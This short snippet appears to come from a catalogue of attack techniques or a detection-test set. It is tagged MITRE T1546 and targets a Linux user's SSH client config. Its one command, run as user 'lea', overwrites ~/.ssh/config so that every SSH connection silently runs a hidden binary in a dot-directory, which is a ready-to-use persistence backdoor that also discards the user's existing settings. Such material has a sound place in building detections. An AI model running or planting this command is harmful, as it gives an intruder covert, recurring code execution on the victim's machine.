# technique: T1546
# location: linux.ssh.user-client
# source: /home/lea/.ssh/config
su lea -c "printf 'Host *\n  PermitLocalCommand yes\n  LocalCommand /home/lea/.local/share/.p/pw\n' > ~/.ssh/config"
